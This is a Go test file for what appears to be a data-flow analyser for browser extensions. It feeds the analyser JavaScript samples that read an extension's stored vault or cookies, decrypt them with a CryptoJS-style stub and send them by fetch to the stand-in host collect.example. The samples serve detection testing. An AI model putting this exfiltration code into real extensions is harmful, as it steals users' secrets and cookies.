package analysis

import "testing"

func TestFlowOfWhatCryptoJSDecrypts(t *testing.T) {
	const library = `var C = {}; (function (C) { C.AES = {encrypt: turn, decrypt: function (m, k) { return turn(m.words, k) }} })(C); `
	const use = `chrome.storage.local.get("vault", ({vault}) => { const all = JSON.parse(C.AES.decrypt(vault, "k").toString(Utf8)); fetch("https://collect.example/x", {body: JSON.stringify(all)}) })`
	if r := background(t, "bg.js", library+use); !hasFlow(r, "decrypted", "fetch", "collect.example") {
		t.Errorf("flows %+v", r.Flows)
	}
	module := `const m = {default: C.AES}; chrome.storage.local.get("vault", ({vault}) => fetch("https://collect.example/x", {body: m.default.decrypt(vault, "k").toString(Utf8)}))`
	if r := background(t, "bg.js", library+module); !hasFlow(r, "decrypted", "fetch", "collect.example") {
		t.Errorf("a module of its own: flows %+v", r.Flows)
	}
	key := `chrome.cookies.getAll({}, (l) => fetch("https://collect.example/x", {body: C.AES.decrypt("sealed", l)}))`
	if r := background(t, "bg.js", library+key); hasFlow(r, "cookies", "fetch", "collect.example") {
		t.Errorf("the key comes out: %+v", r.Flows)
	}
}
